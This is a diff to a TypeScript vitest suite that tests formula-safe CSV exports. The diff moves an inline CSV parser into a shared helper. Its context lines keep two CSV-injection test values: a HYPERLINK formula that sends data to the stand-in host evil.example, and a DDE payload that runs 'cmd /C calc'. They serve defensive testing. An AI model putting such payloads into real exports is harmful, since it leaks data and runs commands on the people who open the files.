@@ -6,37 +6,10 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { storeKinds } from '../support/stores.ts';
 import type { TestService } from '../support/app.ts';
 import { NHS, useFixtureService, users } from '../support/fixture.ts';
+import { parseCsv } from '../support/csv.ts';
 
 const NAME = '=HYPERLINK("https://evil.example/?leak","Open record")';
 const CLIENT = '@SUM(1+1)*cmd|/C calc!A0';
-/** RFC 4180 records, read by a header row into objects. */
-function parseCsv(text: string): Record<string, string>[] {
-  const records: string[][] = [];
-  let record: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted && ch === '"' && text[i + 1] === '"') {
-      cell += '"';
-      i++;
-    } else if (ch === '"') {
-      quoted = !quoted;
-    } else if (!quoted && ch === ',') {
-      record.push(cell);
-      cell = '';
-    } else if (!quoted && ch === '\n') {
-      records.push([...record, cell]);
-      record = [];
-      cell = '';
-    } else {
-      cell += ch;
-    }
-  }
-  const [header, ...rows] = records;
-  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
-}
-
 const mallory = { id: 'hv-mallory', org: 'RNU', roleCode: users.hv.roleCode, workgroups: ['HV-BANBURY'] };
 
 describe.each(storeKinds)('formula-safe CSV exports ($name)', (kind) => {
